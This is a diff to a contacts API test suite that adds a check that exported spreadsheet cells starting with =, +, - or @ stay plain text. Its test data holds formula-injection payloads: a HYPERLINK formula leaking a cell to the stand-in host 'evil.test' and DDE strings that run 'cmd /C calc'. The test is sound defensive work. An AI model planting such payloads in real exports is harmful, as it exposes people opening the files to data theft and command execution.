@@ -158,7 +158,7 @@ describe('POST /contacts/import', () => {
     for (const [content, name, error] of cases) {
       const res = await upload(content, name);
       expect(res.status, name).toBe(400);
-      expect(res.body, name).toEqual({ ok: false, error, code: 'invalid_input', field: 'file' });
+      expect(res.body, name).toEqual({ ok: false, error, code: 'contact.import_file_invalid', field: 'file' });
     }
     expect(await count()).toBe(before);
   });
@@ -263,6 +263,34 @@ describe('GET /contacts/export', () => {
     expect(mine.every((r) => r['Assigned To'] === acme.sales[0].name)).toBe(true);
     const foreign = read((await download('', token.globexAdmin)).body);
     expect(foreign.map((r) => r.Phone)).not.toContain('+201500000001');
+  });
+
+  it('exports cells typed as formulas (=, +, -, @) as the text they are, never as a formula', async () => {
+    const typed = [
+      ['=HYPERLINK("http://evil.test/?leak="&A1,"Invoice")', '+1+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+      ['-2+3', '=1+2', '+201001234567'],
+    ];
+    const csv = ['Name,Phone,Address,Notes', ...typed.map((r, i) => [r[0], `0104444000${i}`, r[1], r[2]].map((c) => `"${c.replace(/"/g, '""')}"`).join(','))].join('\n');
+    const imported = await upload(csv, 'formulas.csv');
+    expect(imported.body.data, imported.body.error).toMatchObject({ created: 2, rejected: [] });
+    expect(await byPhone('01044440000')).toMatchObject({ name: typed[0][0], address: typed[0][1], notes: typed[0][2] }); // stored as typed
+
+    const { body } = await download('?q=0104444&sortBy=name&order=asc');
+    const book = XLSX.read(body, { type: 'buffer', cellFormula: true });
+    const sheet = book.Sheets[book.SheetNames[0]];
+    const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')) as [string, XLSX.CellObject][];
+    expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([]);
+    const row = (phone: string) => {
+      const r = cells.find(([, cell]) => cell.v === phone)![0].replace(/^[A-Z]+/, '');
+      return { name: sheet[`A${r}`], phone: sheet[`B${r}`], address: sheet[`D${r}`], notes: sheet[`R${r}`] };
+    };
+    expect(row('+201044440000')).toMatchObject({
+      name: { t: 's', v: typed[0][0] },
+      phone: { t: 's', v: '+201044440000' }, // a phone stays usable: text, with its +
+      address: { t: 's', v: typed[0][1] },
+      notes: { t: 's', v: typed[0][2] },
+    });
+    expect(row('+201044440001')).toMatchObject({ name: { t: 's', v: '-2+3' }, address: { t: 's', v: '=1+2' }, notes: { t: 's', v: '+201001234567' } });
   });
 
   it('answers bad filters with the JSON error, not a file', async () => {
